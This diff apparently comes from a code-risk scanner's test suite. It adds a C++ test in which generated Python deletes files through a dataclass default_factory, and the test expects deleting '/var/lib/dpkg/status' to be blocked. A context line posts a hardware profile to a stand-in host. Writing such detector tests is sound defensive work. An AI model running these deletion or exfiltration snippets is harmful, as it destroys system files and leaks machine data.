@@ -117,3 +117,14 @@ TEST(AssessBindings, AMethodIsNotAnotherClassesAttributeOfItsName) {
                   "        return HW(self.dmi())\nrequests.post('https://x.example/a', json=Probe().profile())\n"),
             RiskLevel::high);
 }
+
+TEST(AssessBindings, ADataclassFieldsDefaultFactoryIsItsValue) {
+  auto cleaner = [](const char* path) {
+    return std::string("import os, glob\nfrom dataclasses import dataclass, field\n@dataclass\nclass T:\n"
+                       "    path: str\n@dataclass\nclass Cfg:\n"
+                       "    targets: list = field(default_factory=lambda: [T('") +
+           path + "')])\nfor t in Cfg().targets:\n    for p in glob.glob(t.path):\n        os.remove(p)\n";
+  };
+  EXPECT_EQ(level(cleaner("/var/lib/dpkg/status")), RiskLevel::blocked);
+  EXPECT_EQ(level(cleaner("build/status")), RiskLevel::medium);
+}
